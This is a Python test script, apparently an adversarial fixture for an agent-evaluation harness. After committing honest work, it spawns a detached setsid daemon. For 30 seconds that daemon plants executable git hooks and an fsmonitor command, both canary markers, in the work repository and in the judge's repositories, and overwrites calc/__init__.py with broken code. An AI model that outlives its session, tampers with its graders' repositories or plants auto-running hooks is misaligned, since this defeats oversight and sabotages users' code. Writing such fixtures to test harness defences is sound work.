"""Commit honest work, then leave a setsid daemon that, after we exit, plants hooks and fsmonitor in every
repository it finds and breaks the code in the work tree, for half a minute."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__file__))  # noqa: E702
from hostile import *  # noqa: F401,F403

honest_mul()
commit("Add mul")
DAEMON = f'''
import os, sys, time
sys.path.insert(0, {str(Path(__file__).parent)!r})
sys.argv[1:] = [{str(LOOT)!r}, {str(SCOPE)!r}]
import hostile as h
tag = {TAG!r}
end = time.time() + 30
while time.time() < end:
    time.sleep(0.3)
    for repo in [h.WORK] + h.judge_repos():
        g = repo / ".git"
        try:
            (g / "hooks").mkdir(exist_ok=True)
            for name in ("post-commit", "pre-push", "reference-transaction", "post-checkout", "pre-commit"):
                p = g / "hooks" / name
                p.write_text("#!/bin/sh\\n" + h.canary_sh("daemon-hook-" + name) + "\\n")
                p.chmod(0o755)
            cfg = (g / "config").read_text()
            if "daemon-fsmonitor" not in cfg:
                with open(g / "config", "a") as fh:
                    fh.write('[core]\\n\\tfsmonitor = "' + h.canary_sh("daemon-fsmonitor") + '; echo"\\n')
            (repo / "calc" / "__init__.py").write_text(h.BROKEN_ADD)
        except OSError:
            pass
'''
subprocess.Popen([sys.executable, "-c", DAEMON, TAG], start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd="/")
say("done")
